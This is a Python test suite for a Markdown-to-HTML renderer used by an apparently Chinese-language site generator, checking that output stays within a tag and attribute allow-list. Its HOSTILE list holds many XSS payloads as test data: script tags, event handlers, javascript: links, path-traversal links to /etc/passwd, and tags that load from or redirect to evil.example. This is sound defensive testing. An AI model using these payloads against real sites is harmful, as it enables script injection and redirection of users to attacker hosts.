"""正文：Markdown as its author means it; hostile text comes out as text or not at all."""

from __future__ import annotations

import re
import time
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.model import Figure
from generator.prose import (
    _CLEANER,
    ATTRIBUTES,
    TAGS,
    Prose,
    is_safe_link,
    plain_text,
    render_markdown,
    render_section,
)

FIGURES = {
    "fig-1.png": Figure("fig-1-abc.png", 48, 32, "柱状图", "图注", "示例公司"),
    "bare.png": Figure("bare-abc.png", 8, 6, '"><script>alert(1)</script>'),
}
OURS = {
    "section": {"class", "tabindex", "aria-label"},
    "figure": set[str](),
    "figcaption": set[str](),
    "img": {"src", "alt", "width", "height", "loading", "decoding"},
    "picture": set[str](),
    "source": {"type", "srcset", "sizes"},
    "a": {"href", "rel", "class"},
}
"""what `render_section` itself adds to what the sanitiser lets through"""


class Reader(HTMLParser):
    """Every element and attribute of a piece of HTML, as a browser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Reader(html).elements:
        assert tag in TAGS | set(OURS), html
        allowed = ATTRIBUTES.get(tag, set()) | OURS.get(tag, set())
        assert set(attributes) <= allowed, html
        if tag == "img":
            assert attributes["src"] in {figure.src for figure in FIGURES.values()}, html
        if attributes.get("class") == "zoom":
            assert attributes["href"] in {figure.src for figure in FIGURES.values()}, html
        elif "href" in attributes:
            assert is_safe_link(attributes["href"] or ""), html


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="fig-1.png" onload="alert(1)">',
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>点</a>",
    "<style>@import '//evil.example'</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "</p></div></main><script>alert(1)</script>",
    "[点](javascript:alert(1))",
    "[点](JAVASCRIPT:alert(1))",
    "[点](java\tscript:alert(1))",
    "[点](&#106;avascript:alert(1))",
    "[点](data:text/html;base64,PHNjcmlwdD4=)",
    "[点](vbscript:msgbox(1))",
    "[点](//evil.example/)",
    "[点](\\\\evil.example)",
    "[点](/etc/passwd)",
    "[点][r]\n\n[r]: javascript:alert(1) 'x'",
    "<javascript:alert(1)>",
    "![图](javascript:alert(1))",
    "![图](data:image/svg+xml,<svg onload=alert(1)>)",
    "![图](https://evil.example/track.gif)",
    "![图](//evil.example/a.png)",
    '![图](https://evil.example/track.gif "题")',
    "![图][r]\n\n[r]: https://evil.example/track.gif '题'",
    '[![图](https://evil.example/a.gif "题")](https://www.example.org/ "题")',
    "![图](../../etc/passwd)",
    '![" onerror="alert(1)](fig-1.png)',
    '![图](fig-1.png "x" onerror=alert(1))',
    "甲{: onclick=alert(1) style=position:fixed}",
    "# 题 {: onmouseover=alert(1)}",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\n甲\n```',
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| a | b |",
    "<details open ontoggle=alert(1)>",
    "<x onclick=alert(1)>甲</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_as_text_or_not_at_all(text: str) -> None:
    assert_harmless(render_section(text, FIGURES, label='"><script>'))


@given(st.text(st.sampled_from("<>\"'=/ab[]()!`*_&#;:\n javscript图")))
def test_no_text_makes_an_element_of_its_own(text: str) -> None:
    assert_harmless(render_section(text, FIGURES))


@given(st.text(st.sampled_from("*_-+~>#|[]()<&\xa0\0\r\n\t 1.a甲\u2028\ufeff")) | st.text())
def test_what_needs_no_cleaning_is_what_the_cleaner_makes_of_it(text: str) -> None:
    html = render_markdown(text)
    assert _CLEANER.clean(html) == html


@pytest.mark.parametrize(
    "text", ["{{ 7*7 }}", "{% include 'x' %}", "{#x#}", "${7*7}", "slot-body-0"]
)
def test_text_of_templates_stays_text(text: str) -> None:
    assert plain_text(f"甲 {text} 乙") == f"甲 {text} 乙"


def test_raw_html_is_shown_as_it_was_typed() -> None:
    html = render_section("甲<b>乙</b>", {})
    assert html == "<p>甲&lt;b&gt;乙&lt;/b&gt;</p>\n"


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**“重点”**内容", "<strong>“重点”</strong>内容"),
        ("内容**：重点。**内容", "<strong>：重点。</strong>内容"),
        ("- 甲\n  - 乙\n", "<li>甲\n<ul>\n<li>乙</li>"),
        ("3. 甲\n4. 乙", '<ol start="3">'),
        ("~~错~~", "<del>错</del>"),
        ("甲  \n乙", "甲<br>\n乙"),
        ("### 小标题", "<h3>小标题</h3>"),
        ("[网](https://www.example.org/?a=1&b=2)", 'href="https://www.example.org/?a=1&amp;b=2"'),
    ],
)
def test_markdown_is_read_as_chinese_authors_mean_it(markdown: str, html: str) -> None:
    assert html in render_section(markdown, {})


def test_a_picture_alone_is_a_figure_with_its_words() -> None:
    html = render_section("甲\n\n![](fig-1.png)\n\n乙", FIGURES)
    assert (
        '<figure><a class="zoom" href="fig-1-abc.png">'
        '<img src="fig-1-abc.png" alt="柱状图" width="48" height="32"' in html
    )
    assert "<figcaption>图注　图源：示例公司</figcaption></figure>" in html
    assert "<p><figure>" not in html


def test_a_picture_comes_as_webp_with_a_fall_back_of_the_same_size() -> None:
    webp = (("a-1.webp", 800), ("a-2.webp", 1600))
    figures = {"fig-1.png": replace(FIGURES["fig-1.png"], webp=webp)}
    html = render_section("![](fig-1.png)", figures)
    assert '<picture><source type="image/webp" srcset="a-1.webp 800w, a-2.webp 1600w"' in html
    assert re.search(r'<img src="fig-1-abc.png"[^>]* width="48" height="32" loading="lazy"', html)


def test_a_picture_within_a_line_stays_there_and_an_unknown_one_is_left_out() -> None:
    html = render_section("甲![](fig-1.png)乙![](no.png)丙", FIGURES)
    assert re.fullmatch(r"<p>甲<img [^>]*>乙丙</p>\n", html)


def test_words_of_a_picture_are_escaped() -> None:
    html = render_section("![](bare.png)", FIGURES)
    assert "<script>" not in html
    assert 'alt="&#34;&gt;&lt;script&gt;' in html


def test_every_table_scrolls_by_itself_and_has_a_name() -> None:
    table = "|甲|乙|\n|---|---|\n|1|2|\n"
    html = render_section(f"{table}\n文\n\n{table}", {}, label="有效学习")
    assert re.findall(r'aria-label="(.*?)"><table>', html) == ["有效学习表格1", "有效学习表格2"]


def test_plain_text_holds_what_a_reader_sees() -> None:
    markdown = "### 标题\n\n甲**乙**[丙](https://a.example/)\n\n- 一\n- 二\n\n|表|头|\n|---|---|\n|格|子|\n\n![](x.png)"
    assert plain_text(markdown).split("\n") == [*("标题", "甲乙丙", "一", "二"), *"表头格子"]


def test_emphasis_does_not_tear_a_word_apart() -> None:
    assert plain_text("一次**交验**合格`率`") == "一次交验合格率"


@pytest.mark.parametrize(
    "text",
    [
        "[a" * 10000,
        "[" * 20000,
        "[ a_" * 5000,
        "![[]()" * 3000,
        "[ (](" * 4000,
        "**a " * 5000,
        "> " * 5000,
    ],
)
def test_pathological_input_takes_no_time(text: str) -> None:
    start = time.process_time()
    render_section(text, {})
    assert time.process_time() - start < 10


@pytest.mark.parametrize(
    ("title", "anchor"),
    [
        ("有效学习", "有效学习"),
        ("5S 管理（试行）", "5s-管理-试行"),
        ("！！", "section"),
        ("a<b>", "a-b"),
    ],
)
def test_an_anchor_is_made_of_the_words_of_a_heading(title: str, anchor: str) -> None:
    assert Prose().anchor(title) == anchor
